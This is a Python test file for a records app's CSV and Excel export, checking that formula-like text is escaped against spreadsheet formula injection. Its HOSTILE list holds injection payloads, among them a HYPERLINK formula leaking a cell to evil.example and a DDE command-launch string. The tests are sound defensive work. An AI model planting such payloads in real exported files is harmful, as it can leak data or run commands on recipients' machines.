"""Exports hold no live formula and say who exported them (issue 13, A4 and A5).

Text that starts like a formula (=, +, -, @, a tab or a carriage return) is
written to CSV with a leading ' (OWASP's CSV-injection advice) and to Excel as a
text cell; real numbers stay numbers. Both files begin with a line naming who
exported, when, how many rows and with which filters, and import-contacts reads
back what the export wrote."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from mamoru.lib.spreadsheet import cell_raw, csv_cell, starts_like_formula
from records.models import Contact

from .factories import make_contact

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "-5",
]


def _export(client, fmt, **params):
    response = client.get("/contacts/", {"format": fmt, **params})
    assert response.status_code == 200
    return response


@pytest.fixture
def hostile(city):
    """Contacts whose texts start like formulas, stored as they are (the service turns a one-line
    field's tab or CR into a space; a value stored before that, or by another system, is kept)."""
    contacts = [make_contact(city.staff, summary="件名") for _text in HOSTILE]
    for contact, text in zip(contacts, HOSTILE, strict=True):
        Contact.objects.filter(pk=contact.pk).update(summary=text, resident_description=text)
    return contacts


def test_csv_cells_that_start_like_formulas_are_text(city, client_for, hostile):
    text = _export(client_for(city.staff), "csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    summaries = {row[0]: row[8] for row in rows[2:]}
    for contact, written in zip(hostile, HOSTILE, strict=True):
        assert summaries[contact.number] == "'" + written
    for row in rows[2:]:
        assert not any(starts_like_formula(cell) for cell in row), row


def test_xlsx_holds_no_formula_and_keeps_the_text(city, client_for, hostile):
    content = _export(client_for(city.staff), "xlsx").content
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {row[0].value: row[8] for row in sheet.iter_rows(min_row=3)}
    for contact, written in zip(hostile, HOSTILE, strict=True):
        cell = cells[contact.number]
        assert cell.data_type == "s" and cell.value == written.replace("\r", "\n")  # XML reads CR as LF
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_numbers_stay_numbers_and_text_stays_text():
    assert csv_cell(-5) == -5 and csv_cell(-2.5) == -2.5 and csv_cell("-5") == "'-5"
    assert csv_cell("税金泥棒") == "税金泥棒" and csv_cell("") == ""
    from openpyxl import Workbook

    from mamoru.lib.export_files import xlsx_row as _xlsx_row

    sheet = Workbook(write_only=True).create_sheet("x")
    number, text = _xlsx_row(sheet, [-5, "-5"])
    assert number == -5
    assert text.value == "-5" and text.data_type == "s"


def test_a_control_character_in_a_stored_value_does_not_break_the_excel_export(city, client_for):
    contact = make_contact(city.staff, summary="ok")
    Contact.objects.filter(pk=contact.pk).update(summary="ベル\x07と\x1bエスケープ")
    sheet = load_workbook(io.BytesIO(_export(client_for(city.staff), "xlsx").content)).active
    assert [row[8] for row in sheet.iter_rows(min_row=3, values_only=True)] == ["ベルとエスケープ"]


def test_exports_say_who_exported_when_and_what(city, client_for):
    make_contact(city.staff, summary="窓口での苦情")
    client = client_for(city.staff)
    text = _export(client, "csv", q="苦情").content.decode("utf-8-sig")
    first = text.splitlines()[0]
    assert first.startswith("【出力記録】 対応記録 出力者: 市民 一郎（staff1） 出力日時: ")
    assert "件数: 1件" in first and "条件: キーワード: 苦情" in first
    workbook = load_workbook(io.BytesIO(_export(client, "xlsx", q="苦情").content))
    assert workbook.active["A1"].value.startswith("【出力記録】 対応記録 出力者: 市民 一郎（staff1）")
    assert workbook.active["A2"].value == "番号"
    assert workbook.properties.creator == "市民 一郎（staff1）"
    assert workbook.properties.created is not None and "件数: 1件" in workbook.properties.description
    assert "出力者: 市民 一郎" in workbook.active.oddHeader.center.text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_contacts_reads_back_what_the_export_wrote(city, client_for, tmp_path, fmt):
    """The ' in front of a formula-like text and the line above the header are
    taken away again: the summary comes back exactly as it was typed."""
    make_contact(city.staff, summary='=HYPERLINK("http://evil.example")', resident_description="-5")
    path = tmp_path / f"contacts.{fmt}"
    path.write_bytes(_export(client_for(city.staff), fmt).content)
    Contact.objects.all().delete()
    out, err = io.StringIO(), io.StringIO()
    call_command(
        "import_contacts",
        str(path),
        "--user",
        "specialist1",
        "--map",
        "開始日時=date",
        stdout=out,
        stderr=err,
    )
    assert "取り込み: 1件" in out.getvalue(), err.getvalue()
    assert Contact.objects.get().summary == '=HYPERLINK("http://evil.example")'


def test_only_the_escape_the_export_added_is_taken_away():
    assert cell_raw("'=1+1") == "=1+1"
    assert cell_raw("'-5") == "-5"
    assert cell_raw("'quoted'") == "'quoted'"
    assert cell_raw("it's") == "it's"
